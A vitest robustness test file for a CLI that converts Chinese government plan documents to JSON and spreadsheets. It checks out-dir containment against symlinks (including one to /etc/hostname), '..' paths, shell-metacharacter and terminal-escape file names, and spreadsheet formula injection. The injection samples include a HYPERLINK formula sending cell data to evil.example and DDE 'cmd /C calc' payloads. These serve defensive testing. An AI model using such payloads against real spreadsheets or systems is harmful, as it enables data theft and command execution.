import { execFileSync } from "node:child_process";
import { copyFileSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { assertBuilt, BOUNDS, MEASURE, runCli } from "./harness.js";

/**
 * `ledger batch` against hostile trees: it never writes outside --out-dir (absolute paths, "..",
 * symlinks in the input tree and in the output tree), handles names with spaces, Chinese and
 * quotes, neutralises spreadsheet formulas, stops a file that runs past --timeout and goes on,
 * and keeps memory flat from 300 to 1,500 files.
 */

const FIXTURES = join(import.meta.dirname, "..", "..", "fixtures");
let work: string;

beforeAll(() => {
  assertBuilt();
  work = mkdtempSync(join(tmpdir(), "ledger-robust-batch-"));
});

afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Every file and link under `root`, with its size and mtime: what must not change outside the output folder. */
function snapshot(root: string, skip: (path: string) => boolean = () => false): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (skip(path)) continue;
      const info = lstatSync(path);
      out.set(relative(root, path), `${info.isSymbolicLink() ? "link" : info.isDirectory() ? "dir" : "file"} ${info.size} ${info.mtimeMs}`);
      if (entry.isDirectory()) walk(path);
    }
  };
  walk(root);
  return out;
}

function filesUnder(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) walk(path);
      else out.push(relative(root, path));
    }
  };
  walk(root);
  return out.sort();
}

function summary(path: string): Array<{ path: string; status: string; output?: string; code?: string }> {
  return readFileSync(path, "utf8").trim().split("\n").filter(Boolean).map((line) => JSON.parse(line));
}

const NOTICE = readFileSync(join(FIXTURES, "zhonglou-2018-plan.txt"));
const NAMES = ["通知 (1).txt", `带"双引号"的 '单引号' 文件.txt`, "  leading and trailing spaces  .txt", "semi;colon&amp $HOME `tick`.txt", "-dash-first.txt", "子目录 甲/深 层/通知.txt"];

describe("ledger batch never writes outside --out-dir", () => {
  it("with absolute and '..' paths, names with spaces, Chinese and quotes, and symlinks in both trees", async () => {
    const root = join(work, "escape");
    const inputs = join(root, "in");
    const outside = join(root, "outside");
    const outsideOut = join(root, "outside-out");
    mkdirSync(join(inputs, "子目录 甲", "深 层"), { recursive: true });
    mkdirSync(outside, { recursive: true });
    mkdirSync(outsideOut, { recursive: true });
    for (const name of NAMES) writeFileSync(join(inputs, name), NOTICE);
    writeFileSync(join(outside, "secret.txt"), NOTICE);
    writeFileSync(join(outside, "other.txt"), NOTICE);
    // Links in the input tree to a file and a folder outside it, to an absolute path, and a broken one.
    symlinkSync(join(outside, "secret.txt"), join(inputs, "link-to-secret.txt"));
    symlinkSync("../outside", join(inputs, "link-to-outside"));
    symlinkSync("/etc/hostname", join(inputs, "etc.txt"));
    symlinkSync(join(root, "nowhere.txt"), join(inputs, "broken.txt"));
    // The output folder already holds links: mirrored outputs must not be written through them.
    const out = join(root, "out");
    mkdirSync(out);
    symlinkSync(outsideOut, join(out, "子目录 甲"));
    symlinkSync(join(outsideOut, "planted.json"), join(out, "通知 (1).json"));

    const cwd = join(inputs, "子目录 甲");
    const before = snapshot(root, (path) => path.startsWith(out + "/") || path === out || path.endsWith(".ndjson"));
    // An absolute input, one through "..", and the output folder given through "..".
    const run = await runCli(["batch", inputs, "../../in/通知 (1).txt", "-o", "../../out", "--summary", join(root, "s.ndjson"), "-j", "2"], { cwd, timeoutMs: 60_000 });
    expect(run.signal).toBeNull();
    expect([0, 1]).toContain(run.status);
    expect(run.stderr).not.toContain("    at ");

    const after = snapshot(root, (path) => path.startsWith(out + "/") || path === out || path.endsWith(".ndjson"));
    expect([...after].filter(([path, state]) => before.get(path) !== state)).toEqual([]);
    expect(readdirSync(outsideOut)).toEqual([]);
    expect(readdirSync(outside).sort()).toEqual(["other.txt", "secret.txt"]);

    const lines = summary(join(root, "s.ndjson"));
    const byPath = new Map(lines.map((line) => [line.path.replace(/^.*\/in\//, ""), line]));
    for (const name of ["link-to-secret.txt", "etc.txt", "broken.txt"]) expect(byPath.get(name)?.status, name).toBe("failed");
    // Every written output is a real file inside the output folder.
    for (const line of lines) {
      if (line.output === undefined) continue;
      const real = join(cwd, line.output);
      expect(lstatSync(real).isFile(), line.output).toBe(true);
      expect(relative(out, real).startsWith(".."), line.output).toBe(false);
    }
    // The names with quotes and spaces came through (those not blocked by a planted link).
    const written = filesUnder(out).filter((path) => !lstatSync(join(out, path)).isSymbolicLink());
    expect(written).toEqual(expect.arrayContaining([`带"双引号"的 '单引号' 文件.json`, "  leading and trailing spaces  .json", "semi;colon&amp $HOME `tick`.json", "-dash-first.json"]));
    expect(written.filter((path) => /\.tmp$/.test(path) || path.includes("/."))).toEqual([]);
  });

  it("skips a FIFO named .txt, in a folder or named on the command line, without hanging", async () => {
    const root = join(work, "fifo");
    mkdirSync(join(root, "in"), { recursive: true });
    copyFileSync(join(FIXTURES, "chaoyang-2021-ledger.txt"), join(root, "in", "ok.txt"));
    execFileSync("mkfifo", [join(root, "in", "pipe.txt")]);
    const run = await runCli(["batch", "in", "-o", "out", "--summary", "s.ndjson"], { cwd: root, timeoutMs: 30_000 });
    const named = await runCli(["batch", "in/pipe.txt", "-o", "out2"], { cwd: root, timeoutMs: 30_000 });
    expect(named.timedOut).toBe(false);
    expect(named.status).toBe(1);
    expect(named.stderr).toMatch(/^ledger: in\/pipe\.txt: .+$/m);
    expect(run.timedOut).toBe(false);
    expect(run.status).toBe(1);
    expect(summary(join(root, "s.ndjson")).map((line) => [line.path, line.status])).toEqual([
      ["in/ok.txt", "ok"],
      ["in/pipe.txt", "failed"],
    ]);
  });
});

describe("ledger batch messages", () => {
  it("prints one line per failed file, whatever its name holds (line breaks, escapes)", async () => {
    const root = join(work, "names");
    mkdirSync(join(root, "in"), { recursive: true });
    const names = ["bad\nledger: fake.txt: all good.txt", "esc\u001b[2J\u001b[31mred.txt", "cr\rreturn.txt", "bidi\u202etxt.exe.txt"];
    for (const name of names) writeFileSync(join(root, "in", name), Uint8Array.from([0, 1, 2, 3]));
    const run = await runCli(["batch", "in", "-o", "out"], { cwd: root, timeoutMs: 30_000 });
    expect(run.status).toBe(1);
    const lines = run.stderr.split("\n").filter(Boolean);
    expect(lines).toHaveLength(names.length + 1);
    for (const line of lines) expect(line).toMatch(/^ledger: /);
    expect(run.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  });
});

describe("spreadsheet formula injection", () => {
  const HOSTILE = [
    "关于印发某区2021年政务公开工作要点的通知",
    '一、=HYPERLINK("http://evil.example/?x="&A1,"点击")（=cmd|\' /C calc\'!A0牵头，2021年12月底前完成）',
    "二、+SUM(1,2)推进政务公开（@SUM(A1:A9)负责）",
    "三、-2+3+cmd|' /C notepad'!A1（-区政府办牵头）",
    "四、@import 任务（区政府办牵头；=1+1 配合）",
    "五、\t=tab-led 任务",
    "",
  ].join("\n");

  async function cellsOf(path: string): Promise<ExcelJS.Cell[]> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => void cells.push(cell))));
    return cells;
  }

  async function expectNeutral(path: string): Promise<void> {
    const zip = unzipSync(new Uint8Array(readFileSync(path)));
    for (const [name, data] of Object.entries(zip)) if (name.startsWith("xl/worksheets/")) expect(strFromU8(data), name).not.toMatch(/<f[ >]/);
    const cells = await cellsOf(path);
    const risky = cells.filter((cell) => typeof cell.value === "string" && /^[=+\-@\t]/.test(cell.value));
    // The payloads are there, as text: nothing was dropped, and nothing became a formula.
    expect(risky.length).toBeGreaterThan(0);
    for (const cell of cells) {
      expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula, cell.address).toBeUndefined();
    }
    for (const cell of risky) expect(cell.type, `${cell.address} ${String(cell.value)}`).toBe(ExcelJS.ValueType.String);
  }

  it("parse -o x.xlsx, batch -f xlsx and --combine write = + - @ as text, never as formulas", async () => {
    const root = join(work, "formula");
    mkdirSync(join(root, "in"), { recursive: true });
    writeFileSync(join(root, "in", "注入.txt"), HOSTILE);
    const parse = await runCli(["parse", "in/注入.txt", "-o", "single.xlsx"], { cwd: root });
    expect(parse.status).toBe(0);
    await expectNeutral(join(root, "single.xlsx"));
    const batch = await runCli(["batch", "in", "-o", "out", "-f", "xlsx", "--combine", "all.xlsx"], { cwd: root, timeoutMs: 60_000 });
    expect(batch.status).toBe(0);
    await expectNeutral(join(root, "out", "注入.xlsx"));
    await expectNeutral(join(root, "all.xlsx"));
  });
});

describe("ledger batch --timeout", () => {
  it("reports a file that runs past the limit, stops it, converts the others and leaves no temp file", async () => {
    const root = join(work, "slow");
    mkdirSync(join(root, "in"), { recursive: true });
    // ~9,000 tasks, each with owners and a deadline: about half a second of parsing, still under the
    // limits (nothing under them takes much longer), against a few ms for the fixtures. With -f xlsx
    // a restarted worker's first file would also pay for loading exceljs (~0.4 s), so JSON here.
    writeFileSync(join(root, "in", "a-slow.txt"), "一、推进政务公开标准化规范化建设。（区政府办牵头，各街道落实；2021年12月底前完成）\n".repeat(9_000));
    for (const name of ["qianjin-2017-plan.txt", "shanxi-2019-plan.txt"]) copyFileSync(join(FIXTURES, name), join(root, "in", name));
    const run = await runCli(["batch", "in", "-o", "out", "-j", "1", "--timeout", "0.25", "--summary", "s.ndjson"], { cwd: root, timeoutMs: 60_000 });
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/^ledger: in\/a-slow\.txt: .+$/m);
    expect(run.stderr).not.toContain("    at ");
    expect(summary(join(root, "s.ndjson")).map((line) => [line.path, line.status])).toEqual([
      ["in/a-slow.txt", "timeout"],
      ["in/qianjin-2017-plan.txt", "ok"],
      ["in/shanxi-2019-plan.txt", "ok"],
    ]);
    expect(filesUnder(join(root, "out"))).toEqual(["qianjin-2017-plan.json", "shanxi-2019-plan.json"]);
  });
});

// A memory bound: only under `npm run test:robustness`.
describe.runIf(MEASURE)("ledger batch memory", () => {
  it("stays flat from 300 to 1,500 small files (peak RSS grows by less than 30 %)", async () => {
    const root = join(work, "many");
    const sources = ["chaoyang-2021-ledger.txt", "lianhuashan-2019-plan.txt", "zhonglou-2018-plan.txt"].map((name) => join(FIXTURES, name));
    const fill = (dir: string, count: number) => {
      mkdirSync(dir, { recursive: true });
      for (let i = 0; i < count; i++) {
        const source = sources[i % sources.length];
        copyFileSync(source, join(dir, `${String(i).padStart(4, "0")}.txt`));
      }
    };
    fill(join(root, "small"), 300);
    fill(join(root, "large"), 1500);
    const small = await runCli(["batch", "small", "-o", "out-small", "-j", "2", "--summary", "small.ndjson"], { cwd: root, timeoutMs: 120_000 });
    const large = await runCli(["batch", "large", "-o", "out-large", "-j", "2", "--summary", "large.ndjson"], { cwd: root, timeoutMs: 120_000 });
    expect(small.status).toBe(0);
    expect(large.status).toBe(0);
    expect(summary(join(root, "large.ndjson")).filter((line) => line.status === "ok")).toHaveLength(1500);
    expect(small.rssMB).not.toBeNull();
    expect(large.rssMB!, `300 files: ${small.rssMB} MB, 1,500 files: ${large.rssMB} MB`).toBeLessThan(small.rssMB! * 1.3);
    expect(large.rssMB!).toBeLessThan(BOUNDS.rssMB);
  });
});
